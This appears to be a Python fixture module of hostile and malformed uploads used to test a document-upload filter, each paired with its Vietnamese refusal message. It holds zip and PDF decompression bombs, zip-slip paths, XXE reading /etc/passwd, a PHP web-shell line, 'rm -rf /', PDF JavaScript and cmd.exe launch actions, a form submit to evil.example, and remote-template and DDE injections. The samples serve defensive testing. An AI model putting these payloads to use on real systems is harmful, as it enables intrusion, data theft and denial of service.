"""Files that people send to do harm, or by mistake: each with the words in which it is refused.

Made here rather than kept. Those that are not refused but made harmless stand in `NEUTRALISED`.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from . import corpus, form_corpus

OTHER, BROKEN, LARGE = (
    "không phải là PDF, Word (DOCX) hay ảnh",
    "hỏng hoặc chưa được gửi hết",
    "quá lớn sau khi giải nén",
)
MACRO, LOCKED, CALLS = "có chứa macro", "có mật khẩu", "tự gọi tới tệp khác"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELATIONS = "word/_rels/document.xml.rels"


def flate_bomb_in_pdf(layers: int = 1, unpacked: int = 200_000_000) -> bytes:
    """A page whose content becomes very large, packed once or into itself."""
    packed = zlib.compress(bytes(unpacked), 9)
    for _ in range(layers - 1):
        packed = zlib.compress(packed, 9)
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    names = [Name.FlateDecode] * layers
    document.pages[0].Contents = pikepdf.Stream(document, packed, Filter=names[0] if layers == 1 else Array(names))
    data = io.BytesIO()
    document.save(data, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return data.getvalue()


def bomb_in_an_object_stream() -> bytes:
    """What a reader unpacks before it knows anything else of the file."""
    packed = zlib.compress(b"1 0 " + bytes(200_000_000), 9)
    head = b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    return corpus.pdf()[:-6] + head + packed + b"\nendstream\nendobj\n%%EOF\n"


def zip_of(parts: dict[str, bytes], *, mode: int = 0, encrypted: bool = False) -> bytes:
    """A package, perhaps with a part that is a link or that says it is locked."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            package.writestr(info, part)
    made = data.getvalue()
    if encrypted:
        made = bytearray(made)
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = made.find(mark)
            while start >= 0:
                made[start + place] |= 1
                start = made.find(mark, start + 4)
        made = bytes(made)
    return made


def relation(target: str, kind: str = "attachedTemplate", mode: str = "External") -> bytes:
    """A part that says what belongs to the document."""
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'<Relationships><Relationship Id="r1" Type="{schema}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()  # noqa: E501


def png_with_a_text_bomb() -> bytes:
    """A comment in a picture that becomes very large."""
    comment = zlib.compress(bytes(80_000_000), 9)
    body = b"Comment\0\0" + comment
    chunk = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    plain = corpus.png()
    return plain[:33] + chunk + plain[33:]


def _pdf_action(kind: str, **more: object) -> Callable[[pikepdf.Pdf], None]:
    def put(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name(f"/{kind}"), **more)

    return put


def _javascript_in_a_field(document: pikepdf.Pdf) -> None:
    run = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    field = Dictionary(FT=Name.Tx, T=String("x"), AA=Dictionary(K=run))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _file_on_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))]
    )


def _embedded_somewhere(document: pikepdf.Pdf) -> None:
    document.Root.Elsewhere = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary())


def _opens_a_share(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\a.pdf"))


def _link_to(address: str) -> Callable[[pikepdf.Pdf], None]:
    def put(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.URI, URI=String(address))

    return put


def _content_from_elsewhere(document: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(document, b"")
    stream["/F"] = String("\\\\evil\\share\\a")
    document.pages[0].Contents = stream


def _entities(times: int) -> str:
    """A part whose few words become many, or a file of the machine."""
    more = "".join(f'<!ENTITY a{n} "{("&a" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, times))
    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">{more}]>'


def docx_with_a_grammar(times: int = 1) -> bytes:
    """A Word document that brings entities of its own."""
    body = f'{_entities(times)}<w:document xmlns:w="w"><w:p><w:t>&x;</w:t></w:p></w:document>'
    return form_corpus.docx(**{"word/document.xml": body.encode()})


def same_name_twice() -> bytes:
    """One reader takes the first part of that name, another one the last."""
    data = io.BytesIO(form_corpus.docx())
    with warnings.catch_warnings(), zipfile.ZipFile(data, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr("word/document.xml", "<w><w:altChunk/></w>")
    return data.getvalue()


_PDF_HARM: dict[str, tuple[Callable[[pikepdf.Pdf], None], str]] = {
    "javascript at opening": (corpus.javascript_at_opening, "mã lệnh JavaScript"),
    "javascript by name": (corpus.javascript_by_name, "mã lệnh JavaScript"),
    "javascript in a field": (_javascript_in_a_field, "mã lệnh JavaScript"),
    "launches a program": (corpus.launch_on_a_page, "lệnh mở chương trình"),
    "launches at opening": (_pdf_action("Launch", F=String("cmd.exe")), "lệnh mở chương trình"),
    "sends itself away": (_pdf_action("SubmitForm", F=String("http://evil.example")), "lệnh gửi dữ liệu"),
    "takes data in": (_pdf_action("ImportData", F=String("a.fdf")), "lệnh nạp dữ liệu"),
    "goes into an attachment": (_pdf_action("GoToE"), "tệp đính kèm"),
    "attachment": (corpus.attachment, "tệp đính kèm"),
    "attachment on a page": (_file_on_a_page, "tệp đính kèm"),
    "attachment in an unknown place": (_embedded_somewhere, "tệp đính kèm"),
    "dynamic form": (corpus.dynamic_form, "biểu mẫu động"),
    "opens a file of a share": (_opens_a_share, "lệnh mở tệp ở nơi khác"),
    "link to a file of the machine": (_link_to("file:///C:/Windows/System32/calc.exe"), "liên kết tới tệp trên máy"),
    "link that is a script": (_link_to("javascript:app.alert(1)"), "liên kết tới tệp trên máy"),
    "content from a share": (_content_from_elsewhere, "nội dung lấy từ tệp ở nơi khác"),
    "film": (corpus.film, "phim hoặc âm thanh"),
    "picture of 60,000 points a side": (corpus.huge_picture, "ảnh quá lớn"),
}

# What it is called, its bytes (made when asked for), what is said.
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "one byte": (lambda: b"x", OTHER),
    "html named pdf": (lambda: b"<html><script>alert(1)</script></html>", OTHER),
    "svg with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', OTHER),
    "gif": (lambda: b"GIF89a" + bytes(20), OTHER),
    "gif and zip at once": (lambda: b"GIF89a" + bytes(20) + form_corpus.docx(), OTHER),
    "program": (lambda: b"MZ" + bytes(200), OTHER),
    "program of linux": (lambda: b"\x7fELF" + bytes(200), OTHER),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", OTHER),
    "film of a telephone": (lambda: b"\0\0\0\x14ftypqt  " + bytes(200), OTHER),
    "test file of virus scanners": (lambda: EICAR, OTHER),
    "rtf": (lambda: b"{\\rtf1 x}", OTHER),
    "rar": (lambda: b"Rar!\x1a\x07\x00" + bytes(100), OTHER),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(100), OTHER),
    "junk before a pdf": (lambda: bytes(900) + corpus.pdf(), OTHER),
    "zip in a zip in a zip": (lambda: zip_of({"b.zip": zip_of({"a.zip": zip_of({"a": b"x"})})}), OTHER),
    "docx that is a zip of zips": (lambda: zip_of({"word/document.xml": zip_of({"a": bytes(10**6)})}), OTHER),
    "plain zip": (lambda: form_corpus.packed({"a.txt": b"a"}), OTHER),
    "zip that unpacks into its folder's parent": (lambda: zip_of({"../../etc/passwd": b"x"}), BROKEN),
    "zip with an absolute name": (lambda: zip_of({"/etc/passwd": b"x"}), BROKEN),
    "zip with a link": (lambda: zip_of({"a": b"/etc/passwd"}, mode=0o120777), BROKEN),
    "zip bomb": (lambda: form_corpus.docx(**{"word/a.xml": bytes(120_000_000)}), LARGE),
    "zip with thousands of parts": (lambda: zip_of({f"p{n}": b"" for n in range(2100)}), LARGE),
    "zip cut off": (lambda: form_corpus.docx()[:-30], BROKEN),
    "locked docx as zip": (lambda: zip_of({"word/document.xml": b"x"}, encrypted=True), LOCKED),
    "locked docx": (lambda: form_corpus.compound("EncryptedPackage", "EncryptionInfo"), LOCKED),
    "doc of old": (lambda: form_corpus.compound("WordDocument"), "Word đời cũ"),
    "doc with macros": (lambda: form_corpus.compound("WordDocument", "Macros"), MACRO),
    "xls": (lambda: form_corpus.compound("Workbook"), OTHER),
    "docm named docx": (lambda: form_corpus.office(form_corpus.WORD_WITH_MACROS), MACRO),
    "macros under another type": (lambda: form_corpus.docx(**{"word/vbaProject.bin": b"x"}), MACRO),
    "macros in other letters": (lambda: form_corpus.docx(**{"word/VbaProject.BIN": b"x"}), MACRO),
    "activex": (lambda: form_corpus.docx(**{"word/activeX/activeX1.xml": b"<x/>"}), MACRO),
    "file inside a docx": (lambda: form_corpus.docx(**{"word/embeddings/oleObject1.bin": b"MZ"}), "nhúng tệp khác"),
    "template from elsewhere": (lambda: form_corpus.docx(**{RELATIONS: relation("http://evil.example/t")}), CALLS),
    "template from a share": (lambda: form_corpus.docx(**{RELATIONS: relation("\\\\evil\\t.dotm")}), CALLS),
    "picture from elsewhere": (lambda: form_corpus.docx(**{RELATIONS: relation("https://e.example", "image")}), CALLS),
    "DDE": (lambda: form_corpus.docx("<w:instrText> DDEAUTO cmd </w:instrText>"), CALLS),
    "page of html inside a docx": (lambda: form_corpus.docx('<w:altChunk r:id="r1"/>'), CALLS),
    "DDE in pieces": (
        lambda: form_corpus.docx("<w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>"),
        CALLS,
    ),
    "DDE in a simple field": (lambda: form_corpus.docx('<w:fldSimple w:instr=" DDE cmd "/>'), CALLS),
    "picture field from elsewhere": (
        lambda: form_corpus.docx('<w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText>'),
        CALLS,
    ),
    "template written in numbers": (
        lambda: form_corpus.docx(**{RELATIONS: relation("&#104;ttp://evil.example/t")}),
        CALLS,
    ),
    "template in another encoding": (
        lambda: form_corpus.docx(**{RELATIONS: relation("http://evil.example/t").decode().encode("utf-16")}),
        CALLS,
    ),
    "template behind a sharp bracket": (
        lambda: form_corpus.docx(**{RELATIONS: relation("http://evil.example/t").replace(b'"r1"', b'"a>b"')}),
        CALLS,
    ),
    "macros by their type alone": (
        lambda: form_corpus.packed(
            {
                "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            }
        ),
        MACRO,
    ),
    "file of the machine drawn into a docx": (docx_with_a_grammar, BROKEN),
    "a billion laughs": (lambda: docx_with_a_grammar(9), BROKEN),
    "two parts of one name": (same_name_twice, BROKEN),
    "html of two bytes a letter": (lambda: "<html><script>alert(1)</script>".encode("utf-16"), OTHER),
    "page of a mail": (lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related", OTHER),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", OTHER),
    "shortcut of windows": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), OTHER),
    "php": (lambda: b"<?php system($_GET[0]); ?>", OTHER),
    "java": (lambda: b"\xca\xfe\xba\xbe" + bytes(100), OTHER),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100), OTHER),
    "zeros": (lambda: bytes(5000), OTHER),
    "html behind the name of a pdf": (lambda: b"%PDF-1.7<script>alert(1)</script>" + corpus.pdf(), BROKEN),
    "two pdfs in one": (lambda: corpus.pdf() + corpus.pdf(pages=3), BROKEN),
    "xlsx": (lambda: form_corpus.office(form_corpus.EXCEL), OTHER),
    "odt": (lambda: form_corpus.odt(), OTHER),
    "docx without a body": (lambda: form_corpus.office(form_corpus.WORD), "bị hỏng"),
    "pdf packed a thousandfold": (lambda: flate_bomb_in_pdf(), LARGE),
    "pdf packed into itself": (lambda: flate_bomb_in_pdf(layers=4), LARGE),
    "bomb in an object stream": (bomb_in_an_object_stream, LARGE),
    "pdf with a password": (lambda: corpus.encrypted_pdf(user="bí mật"), LOCKED),
    "pdf nobody may print": (corpus.encrypted_pdf, LOCKED),
    "pdf cut off": (lambda: corpus.pdf(pages=20)[:900], BROKEN),
    "pdf without pages": (lambda: corpus.pdf(pages=0), "bị hỏng"),
    "pdf of five letters": (lambda: b"%PDF-", BROKEN),
    "jpeg of three bytes": (lambda: b"\xff\xd8\xff", BROKEN),
    "photo cut off": (lambda: corpus.jpeg()[:2000], BROKEN),
    "heic cut off": (lambda: corpus.heic_from_a_phone()[:300], BROKEN),
    "png of 50,000 points a side": (lambda: corpus.png_claiming(50_000, 50_000), "quá mức 40 triệu"),
    "png with a text bomb": (png_with_a_text_bomb, BROKEN),
    "tiff of 51 pages": (lambda: corpus.tiff(pages=51), "quá 50 trang"),
    **{name: (lambda put=put: corpus.pdf_with(put), f"có chứa {said}") for name, (put, said) in _PDF_HARM.items()},
}


def jpeg_and_zip() -> bytes:
    """A photo behind which a package begins."""
    return corpus.jpeg() + zip_of({"a.exe": b"MZ"})


def jpeg_with_script_in_its_comment() -> bytes:
    """A photo that a careless page would run."""
    return corpus.jpeg(comment=b"<script>alert(1)</script>")


def png_with_a_profile_and_a_text() -> bytes:
    """A picture that says who owns it."""
    from PIL.PngImagePlugin import PngInfo

    said, data = PngInfo(), io.BytesIO()
    said.add_text("Author", "Nguyễn Văn An")
    Image.new("RGB", (60, 40), "white").save(data, "PNG", pnginfo=said)
    return data.getvalue()


def photo_with_a_pdf_behind() -> bytes:
    """A photo to one reader, a document with a script to another."""
    return corpus.jpeg() + corpus.pdf_with(corpus.javascript_at_opening)


def photo_with_php_in_its_comment() -> bytes:
    """A photo that a careless server would run."""
    return corpus.jpeg(comment=b"<?php system($_GET[0]); ?>")


# Taken in, but made anew: what must not be found in what is kept.
NEUTRALISED: dict[str, tuple[Callable[[], bytes], bytes]] = {
    "where and with what a photo was taken": (corpus.jpeg_from_a_phone, b"Exif"),
    "the same from another maker": (corpus.heic_from_a_phone, b"Exif"),
    "a package behind a photo": (jpeg_and_zip, b"PK\x03\x04"),
    "a script in a comment": (jpeg_with_script_in_its_comment, b"<script>"),
    "a document behind a photo": (photo_with_a_pdf_behind, b"%PDF"),
    "a program in a comment": (photo_with_php_in_its_comment, b"<?php"),
    "who owns a picture": (png_with_a_profile_and_a_text, b"Author"),
}
